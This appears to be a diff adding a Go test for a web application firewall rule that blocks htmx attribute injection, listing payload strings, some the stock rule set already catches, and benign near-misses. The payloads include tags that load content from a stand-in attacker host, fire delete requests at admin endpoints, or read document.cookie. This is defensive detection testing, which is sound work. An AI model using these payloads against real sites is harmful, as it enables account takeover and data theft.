@@ -1,0 +1,56 @@
+package waf
+
+import (
+	"net/url"
+	"testing"
+)
+
+// htmxAttacks are a fifteenth fresh-eyes attack's (attack 19) htmx
+// attributes in a tag, which the CRS alone passes (rule 210122).
+var htmxAttacks = []string{
+	`<div hx-get="https://evil.example/x" hx-trigger="load" hx-swap="outerHTML"></div>`,
+	`<div hx-get="/admin/delete" hx-trigger="load"></div>`,
+	`<div hx-post="/admin/users/1/delete" hx-trigger="load">`, `<span data-hx-get="https://evil.example/x" data-hx-trigger="load">`,
+	`<div class="card" hx-put="/api/profile" hx-trigger="load">`,
+	`<p/hx-patch="/api/me" hx-trigger="load">`, `<div HX-GET='/x' hx-trigger=load>`, `<a href="#"hx-get="/x">`,
+	`<div hx-on::after-request="x()">`,
+	`<section hx-delete="/api/account" hx-trigger="load">`, `<div hx-on--load="x()">`, `<div hx-vals='js:{a: 1}'>`,
+	`<div data-hx-on:click="x()">`,
+}
+
+// htmxCRSCatches are htmx payloads the CRS alone refuses already (an
+// <img> with an attribute, fetch( and document.cookie in a value).
+var htmxCRSCatches = []string{
+	`<img src=x hx-delete="/api/account" hx-trigger="load">`, `<div hx-on:htmx:load="fetch('/x')">`,
+	`<div hx-on="htmx:load: fetch('/x')">`, `<div hx-vals="js:{a: document.cookie}" hx-post="/x">`,
+	`<div hx-headers="javascript:{a: document.cookie}">`,
+}
+
+// htmxBenign are near-misses: prose naming the attributes, classes
+// named so, htmx's other attributes, hx-include.
+var htmxBenign = []string{
+	"use hx-get for that", `hx-post="/x" sends a POST`, `<div class="hx-get">`, `<div class="x hx-get">hello</div>`,
+	`<div hx-swap="outerHTML">`, `<div hx-target="#list">`, `<div hx-include="#form">`, "hx-on:click runs code",
+	`<code>hx-get</code> loads a fragment`, "<b>hx-get=</b>", "the hx-getter and hx-poster classes", `<div id="hx-get-demo">`,
+}
+
+// TestHTMXBeyondTheCRS: rule 210122 refuses htmxAttacks in the query and
+// in JSON, which the CRS alone passes, and no near-miss.
+func TestHTMXBeyondTheCRS(t *testing.T) {
+	tableOnly(t)
+	var catches, misses, benign []probe
+	for _, s := range htmxCRSCatches {
+		catches = append(catches, probe{name: "query " + s, method: "GET", path: "/?bio=" + url.QueryEscape(s)})
+	}
+	for _, s := range htmxAttacks {
+		misses = append(misses,
+			probe{name: "query " + s, method: "GET", path: "/?bio=" + url.QueryEscape(s)},
+			probe{name: "JSON " + s, method: "POST", path: "/api/profile", contentType: "application/json", body: jsonString("bio", s)})
+	}
+	for _, s := range htmxBenign {
+		benign = append(benign,
+			probe{name: "query " + s, method: "GET", path: "/api/notes?q=" + url.QueryEscape(s)},
+			probe{name: "JSON " + s, method: "POST", path: "/api/notes", contentType: "application/json", body: jsonString("v", s)})
+	}
+	runBeyondTheCRS(t, catches, misses, benign)
+}
